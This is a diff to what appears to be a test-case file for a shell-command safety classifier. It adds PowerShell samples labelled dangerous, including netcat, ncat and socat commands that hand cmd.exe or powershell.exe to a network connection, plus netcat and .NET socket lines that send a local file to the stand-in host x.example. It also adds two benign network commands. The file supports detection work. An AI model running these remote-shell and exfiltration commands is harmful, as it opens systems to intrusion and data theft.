@@ -4463,6 +4463,26 @@ ORDINARY += [
     ("PowerShell", _ps(r"rundll32 shell32.dll,ShellExec_RunDLL notepad.exe C:\t\a.txt")),
 ]
 
+# A program handed to a network connection; a file on a network program's input; .NET sockets (S-RULE-158).
+DANGEROUS += [
+    ("PowerShell", _ps("nc -lvp 4444 -e cmd.exe"), "security-weakening"),
+    ("PowerShell", _ps("ncat x.example 4444 --sh-exec powershell.exe"), "security-weakening"),
+    ("PowerShell", _ps("socat TCP:x.example:4444 EXEC:cmd.exe"), "security-weakening"),
+    ("PowerShell", _ps(r'cmd /c "nc x.example 4444 < C:\t\s.txt"'), "upload-file"),
+    (
+        "PowerShell",
+        _ps(
+            r"$b = [IO.File]::ReadAllBytes('C:\t\s.txt'); $c = [Net.Sockets.TcpClient]::new('x.example', 4444); "
+            "$c.GetStream().Write($b, 0, $b.Length)"
+        ),
+        "upload-file",
+    ),
+]
+ORDINARY += [
+    ("PowerShell", _ps("nc -vz x.example 443")),
+    ("PowerShell", _ps("socat TCP-LISTEN:8080,fork TCP:localhost:80")),
+]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
